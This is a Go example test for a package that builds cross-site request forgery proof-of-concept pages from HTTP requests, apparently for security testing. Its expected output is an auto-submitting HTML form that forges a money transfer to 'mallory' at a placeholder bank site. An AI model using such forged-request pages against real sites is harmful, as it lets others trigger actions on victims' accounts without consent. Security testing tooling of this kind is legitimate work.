// Copyright 2026 Ross Light
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//		 https://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.
//
// SPDX-License-Identifier: Apache-2.0

package poc_test

import (
	"os"

	"zombiezen.com/go/markup/httpreq"
	"zombiezen.com/go/markup/poc"
)

func ExampleWrite() {
	req, err := httpreq.Parse("POST /transfer HTTP/1.1\n"+
		"Host: bank.example.com\n"+
		"Content-Type: application/x-www-form-urlencoded\n"+
		"\n"+
		"to=mallory&amount=100", httpreq.HTTPS)
	if err != nil {
		panic(err)
	}
	if err := poc.Write(os.Stdout, req, nil); err != nil {
		panic(err)
	}
	// Output:
	// <html>
	//   <body>
	//     <form action="https://bank.example.com/transfer" method="POST">
	//       <input type="hidden" name="to" value="mallory" />
	//       <input type="hidden" name="amount" value="100" />
	//     </form>
	//     <script>
	//       document.forms[0].submit()
	//     </script>
	//   </body>
	// </html>
}
